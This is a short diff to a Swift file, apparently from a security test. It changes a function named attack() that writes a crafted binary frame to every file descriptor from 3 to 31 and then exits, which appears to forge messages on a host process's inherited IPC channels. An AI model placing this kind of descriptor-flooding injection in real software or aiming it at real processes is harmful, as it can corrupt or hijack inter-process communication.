@@ -3,7 +3,7 @@
 import Foundation
 
 func attack() -> String {
-  let frame: [UInt8] = [0, 0, 1, 0] + Array("{\"id\":".utf8)
+  let frame: [UInt8] = [0, 0, 1, 0, 1, 0xF0, 0, 0, 0, 9, 0xEB, 0, 0, 0, 0, 3]
   for descriptor in Int32(3)..<32 { _ = write(descriptor, frame, frame.count) }
   _exit(0)
 }
